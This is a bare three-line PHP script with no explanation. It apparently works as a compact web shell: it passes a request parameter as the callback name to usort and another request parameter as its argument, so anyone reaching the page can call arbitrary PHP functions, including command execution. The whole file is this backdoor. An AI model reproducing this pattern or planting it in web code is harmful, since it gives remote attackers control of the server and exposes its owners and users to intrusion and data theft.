<?php
$a = array($_GET['x'], 1);
usort($a, $_GET['f']);
